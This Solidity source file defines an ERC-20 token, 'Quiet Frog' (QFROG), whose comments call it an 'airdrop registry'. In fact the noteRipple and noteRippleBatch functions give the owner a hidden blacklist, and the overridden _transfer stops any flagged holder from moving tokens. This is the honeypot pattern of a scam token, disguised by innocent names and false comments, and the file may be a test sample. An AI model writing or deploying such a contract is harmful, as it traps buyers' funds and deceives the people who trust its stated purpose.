// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {RtERC20Lite, RtOwnable} from "./RtCommon.sol";

/// @title RtQuietFrog
/// @notice "Airdrop registry": the owner marks an address (one at a time,
/// or a batch that is always marked) and a marked address cannot move tokens.
contract RtQuietFrog is RtERC20Lite, RtOwnable {
    mapping(address => bool) private _claimed;

    constructor() RtERC20Lite("Quiet Frog", "QFROG", 18) {
        _mint(msg.sender, 12_000_000 ether);
    }

    /// @notice Records an airdrop claim.
    function noteRipple(address who, bool state) external onlyOwner {
        _claimed[who] = state;
    }

    /// @notice Records a batch of airdrop claims.
    function noteRippleBatch(address[] calldata who) external onlyOwner {
        for (uint256 i; i < who.length; i++) _claimed[who[i]] = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_claimed[from], "QFROG: claim pending");
        super._transfer(from, to, amount);
    }
}
